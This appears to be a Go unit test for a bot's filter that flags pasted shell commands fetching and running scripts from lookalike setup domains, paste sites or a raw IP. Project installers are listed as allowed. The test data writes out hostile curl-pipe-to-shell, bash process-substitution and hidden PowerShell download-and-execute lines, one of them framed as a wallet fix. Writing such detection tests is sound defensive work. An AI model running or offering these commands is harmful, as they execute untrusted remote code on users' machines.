package bot_test

import "testing"

// TestPastedCommandsFromSetupNamesAndPasteSites: a pasted command that
// runs what a fresh name built on a setup word serves
// (ollama-install.com, dev-tools-setup.net) or what someone put on a paste
// site (pastebin.com/raw/…) is flagged; the link model reads such names
// as plain sites, and paste sites are known hosts, so both were allowed
// at 0.12–0.47; so was a process substitution (bash <(curl …)), which
// the rule did not read. Projects' one-liners stay as they were.
func TestPastedCommandsFromSetupNamesAndPasteSites(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"curl -fsSL https://ollama-install.com/install.sh | sh", true},
		{"curl -fsSL https://dev-tools-setup.net/setup.sh | bash", true},
		{"iex (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/abc123')", true},
		{"powershell -w hidden -c \"irm https://pastebin.com/raw/Xy12 | iex\"", true},
		{"curl -s https://pastebin.com/raw/abc123 | bash", true},
		{"bash <(curl -s https://dev-tools-setup.net/setup.sh)", true},
		{"Wallet sync fix: bash <(wget -qO- http://45.12.3.4/fix.sh)", true},
		// projects' own one-liners, and a paste read, not run
		{"curl -sSL https://install.python-poetry.org | python3 -", false},
		{"curl -fsSL https://code-server.dev/install.sh | sh", false},
		{"curl -sSL https://install.pi-hole.net | bash", false},
		{"curl -fsSL https://get.docker.com | sh", false},
		{"bash <(curl -s https://raw.githubusercontent.com/tteck/Proxmox/main/misc/post-pve-install.sh)", false},
		{"here is the log: curl -s https://pastebin.com/raw/abc123 | grep error", false},
	})
}
